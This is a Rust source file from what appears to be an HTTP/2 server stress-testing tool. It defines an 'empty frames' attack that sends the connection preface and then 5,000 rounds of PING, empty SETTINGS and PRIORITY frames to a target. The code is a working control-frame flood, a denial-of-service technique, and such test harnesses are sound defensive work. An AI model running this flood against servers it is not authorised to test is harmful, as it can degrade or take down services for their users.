//! Pings, settings and priorities without end.

use crate::attack::{Attack, AttackFuture, Target};

#[derive(Debug)]
pub(crate) struct EmptyFrames;

impl Attack for EmptyFrames {
    fn name(&self) -> &'static str {
        "empty frames"
    }

    fn run<'a>(&'a self, target: &'a Target) -> AttackFuture<'a> {
        Box::pin(async move {
            let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
            bytes.extend_from_slice(&[0, 0, 0, 4, 0, 0, 0, 0, 0]);
            for _ in 0..5_000 {
                bytes.extend_from_slice(&[0, 0, 8, 6, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8]);
                bytes.extend_from_slice(&[0, 0, 0, 4, 0, 0, 0, 0, 0]);
                bytes.extend_from_slice(&[0, 0, 5, 2, 0, 0, 0, 0, 1, 0, 0, 0, 3, 0]);
            }
            let _ = target.hear(bytes).await;
        })
    }
}
